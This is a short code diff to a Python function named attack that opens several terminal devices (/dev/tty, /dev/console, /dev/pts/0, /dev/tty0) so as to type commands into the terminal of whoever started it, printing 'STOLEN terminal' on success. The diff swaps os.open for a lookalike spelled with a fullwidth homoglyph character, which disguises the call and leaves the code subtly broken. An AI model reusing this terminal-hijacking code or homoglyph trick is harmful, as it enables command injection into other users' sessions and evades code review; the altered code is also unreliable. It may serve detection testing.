@@ -1,4 +1,4 @@
-"""Types commands into the terminal of whoever started it, and opens terminals."""
+"""Types commands into the terminal of whoever started it, and takes terminals."""
 
 import fcntl
 import os
@@ -10,7 +10,7 @@ def attack():
     descriptors = [0, 1, 2]
     for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/tty0'):
         try:
-            descriptors.append(os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
+            descriptors.append(os.ｏpen(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
             print(f'STOLEN terminal {path}', flush=True)
         except OSError as error:
             print(repr(error), flush=True)
